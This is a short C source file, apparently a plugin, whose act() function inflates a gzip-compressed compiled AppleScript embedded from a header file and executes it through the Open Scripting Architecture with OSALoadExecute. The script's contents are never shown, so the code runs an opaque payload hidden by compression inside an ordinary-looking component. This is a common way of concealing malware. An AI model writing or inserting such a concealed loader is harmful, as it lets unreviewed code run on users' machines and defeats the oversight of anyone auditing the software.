/* A compiled script under gzip is unpacked, loaded and executed by the component that OSA opens. */
#include "plugin.h"
#include "packed.h" /* archive */
typedef struct { unsigned char *next; unsigned left; unsigned long total; unsigned char *out; unsigned room; unsigned long made; void *rest[8]; } stream;
extern int inflateInit2_(stream *, int, const char *, int), inflate(stream *, int), inflateEnd(stream *);
typedef struct { unsigned type; void *data; } descriptor;
extern void *OpenDefaultComponent(unsigned, unsigned);
extern int AECreateDesc(unsigned, const void *, long, descriptor *);
extern int OSALoadExecute(void *, const descriptor *, unsigned, int, unsigned *);
static unsigned char script[4096];
static void act(char **env) {
    stream s = {(unsigned char *)archive, sizeof archive, 0, script, sizeof script};
    descriptor data;
    unsigned result = 0;
    if (inflateInit2_(&s, 31, "1.2.11", sizeof s)) return;
    inflate(&s, 4);
    inflateEnd(&s);
    if (AECreateDesc('scpt', script, s.made, &data) == 0) OSALoadExecute(OpenDefaultComponent('osa ', 'scpt'), &data, 0, 0, &result);
}
